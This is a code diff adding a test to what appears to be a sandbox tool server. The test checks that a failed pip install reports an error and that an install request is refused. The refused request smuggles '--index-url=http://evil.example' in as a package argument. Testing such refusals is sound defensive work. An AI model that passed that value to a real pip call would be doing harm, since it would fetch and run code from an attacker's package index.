@@ -158,3 +158,12 @@ async def test_contexts_keep_variables_and_show_values(connect: Connect) -> None
         done = told(await client.call_tool("sandbox_run", {"code": "1 / 0", **run}))
         assert done["exit_code"] == 1
         assert "ZeroDivisionError" in done["stderr"]
+
+
+@pytest.mark.parametrize("way", ["http"], indirect=True)
+async def test_pip_that_fails_is_a_result(connect: Connect) -> None:
+    async with connect() as client:
+        install = {"packages": ["no-such-package>=2"], "timeout": 1}
+        assert told(await client.call_tool("sandbox_pip_install", install))["exit_code"] != 0
+        harmful = {"packages": ["--index-url=http://evil.example"]}
+        assert refused(await client.call_tool("sandbox_pip_install", harmful))
